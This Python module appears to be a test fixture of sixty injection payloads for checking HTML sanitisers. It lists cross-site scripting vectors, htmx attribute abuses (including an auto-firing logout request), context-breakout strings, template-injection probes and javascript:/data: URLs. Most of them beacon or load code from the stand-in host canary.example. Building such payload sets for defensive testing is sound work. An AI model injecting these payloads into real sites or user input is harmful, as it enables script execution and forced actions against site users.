"""Sixty texts that become programs wherever a page takes them for anything but text."""

CANARY = "canary.example"
_SCRIPT = f"fetch('//{CANARY}')"

ELEMENTS = (
    f"<script>{_SCRIPT}</script>",
    f"<ScRiPt>{_SCRIPT}</sCrIpT>",
    f"<script src=//{CANARY}/x.js></script>",
    f"<<script>{_SCRIPT}//<</script>",
    f"<script\n>{_SCRIPT}</script\n>",
    f"<img src=x onerror={_SCRIPT}>",
    f"<img/src=//{CANARY}/x.png>",
    f"<img srcset='//{CANARY}/x.png 2x'>",
    f"<svg onload={_SCRIPT}>",
    f"<svg><script>{_SCRIPT}</script></svg>",
    f"<svg><use href='//{CANARY}/x.svg#a'/></svg>",
    f"<math><mtext><a xlink:href='javascript:{_SCRIPT}'>x</a></mtext></math>",
    f"<iframe src=//{CANARY}></iframe>",
    f"<iframe srcdoc='<script>{_SCRIPT}</script>'></iframe>",
    f"<object data=//{CANARY}></object>",
    f"<embed src=//{CANARY}>",
    f"<base href=//{CANARY}/>",
    f"<meta http-equiv=refresh content='0;url=//{CANARY}'>",
    f"<link rel=stylesheet href=//{CANARY}/x.css>",
    f"<style>@import url(//{CANARY}/x.css);</style>",
    f"<body onload={_SCRIPT}>",
    f"<input autofocus onfocus={_SCRIPT}>",
    f"<details open ontoggle={_SCRIPT}>",
    f"<video src=//{CANARY} onerror={_SCRIPT}></video>",
    f"<audio src=//{CANARY}></audio>",
    f"<marquee onstart={_SCRIPT}>",
    f"<form action=//{CANARY}><button>Go</button></form>",
    f"<button formaction=//{CANARY}>Go</button>",
    f"<a href='javascript:{_SCRIPT}'>here</a>",
    f"<a href='//{CANARY}'>here</a>",
    f"<div style='background:url(//{CANARY}/x.png)'>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><script>alert(1)</script>'>",
)
HTMX = (
    f"<div hx-get=//{CANARY} hx-trigger=load></div>",
    f"<div data-hx-get=//{CANARY} data-hx-trigger=load></div>",
    f"<div hx-on::load={_SCRIPT}></div>",
    f"<div hx-on:click={_SCRIPT}></div>",
    f"<div hx-vals='js:{{a: {_SCRIPT}}}'></div>",
    f"<div hx-post=/logout/ hx-trigger=load></div><!-- {CANARY} -->",
    f"<form hx-boost=true action=//{CANARY}></form>",
    f"<div hx-ext=//{CANARY}/x.js></div>",
)
BREAKOUTS = (
    f'"><script>{_SCRIPT}</script>',
    f"'><script>{_SCRIPT}</script>",
    f'" autofocus onfocus="{_SCRIPT}',
    f"' autofocus onfocus='{_SCRIPT}",
    f'x" hx-get="//{CANARY}" hx-trigger="load',
    f"</title><script>{_SCRIPT}</script>",
    f"</textarea><script>{_SCRIPT}</script>",
    f"</script><script>{_SCRIPT}</script>",
    f"</style><script>{_SCRIPT}</script>",
    f"--><script>{_SCRIPT}</script>",
    f"]]><script>{_SCRIPT}</script>",
    f"<!--<img src='--><img src=//{CANARY}>'>",
    f"&lt;script&gt;{_SCRIPT}&lt;/script&gt;",
    f"\\u003cscript\\u003e{_SCRIPT}\\u003c/script\\u003e",
)
# Python's, JavaScript's and Jinja's: all of them would make 1337 of it.
TEMPLATES = ("{{7*191}}", "{% print 7*191 %}", "${7*191}", "#{7*191}", "<%= 7*191 %>")
ALL = (*ELEMENTS, *HTMX, *BREAKOUTS, *TEMPLATES)
ADDRESSES = (f"javascript:{_SCRIPT}//", f"data:text/html,<script>{_SCRIPT}</script>", "vbscript:msgbox(1)")
